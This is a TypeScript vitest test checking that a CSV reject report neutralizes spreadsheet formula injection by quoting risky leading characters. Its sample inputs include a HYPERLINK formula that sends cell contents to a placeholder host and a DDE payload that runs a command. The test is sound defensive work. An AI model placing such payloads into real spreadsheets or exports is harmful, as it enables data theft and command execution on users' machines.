import { readFile } from 'node:fs/promises';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTempFolder, type TempFolder } from '../../../../test/fixtures/import-files.ts';
import { RejectReport } from './reject-report.ts';

let folder: TempFolder;
beforeAll(async () => {
  folder = await createTempFolder();
});
afterAll(() => folder.remove());

/** The report's cells as a spreadsheet reads them: `;`-separated, quoted, doubled quotes. */
function cellsOf(line: string): string[] {
  const cells: string[] = [];
  for (const match of line.matchAll(/(?:^|;)(?:"((?:[^"]|"")*)"|([^;]*))/g)) {
    cells.push(match[1] !== undefined ? match[1].replaceAll('""', '"') : (match[2] ?? ''));
  }
  return cells;
}

describe('the report of refused rows (issue 34, finding 7: CSV injection)', () => {
  it('starts no cell with a formula: =, +, -, @, tab or carriage return get a single quote; numbers stay numbers', async () => {
    const path = folder.path('report.csv');
    const report = new RejectReport(path);
    const hostile = [
      '=HYPERLINK("http://example.test/?"&A1;"Нажмите")',
      '+1+cmd|" /C calc"!A0',
      '-2+3',
      '@SUM(A1:A9)',
      '\t=1+1',
      '\r=1+1',
    ];
    for (const [index, cell] of hostile.entries()) {
      report.add({ line: index + 2, reason: 'price is not a number', fields: [cell, 'Knecht', '-5'] });
    }
    report.add({ line: 9, reason: 'price is not a number', fields: ['-5', '-1 234,50', '+7'] });
    report.add({ line: 10, reason: 'price is not a number', fields: ['-1 234,50'] });
    report.close();
    const lines = (await readFile(path, 'utf8'))
      .replace(/^\uFEFF/, '')
      .split('\n')
      .filter(Boolean);
    expect(lines[0]).toBe('строка;причина;ячейки');
    const rows = lines.slice(1).map(cellsOf);
    for (const [index, cell] of hostile.entries()) {
      // The row cell (the row's cells joined by ;) starts with the hostile cell: it is neutralized, whole.
      expect(rows[index]?.[2]).toBe(`'${cell};Knecht;-5`);
    }
    // Cells joined by ; are no number as a whole: a spreadsheet would take '-5;-1 234,50;+7' for a formula.
    expect(rows.at(-2)?.[2]).toBe("'-5;-1 234,50;+7");
    // A cell that is a plain number, negative or not, is data: kept as written.
    expect(rows.at(-1)?.[2]).toBe('-1 234,50');
    for (const row of rows.slice(0, -1)) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });
});
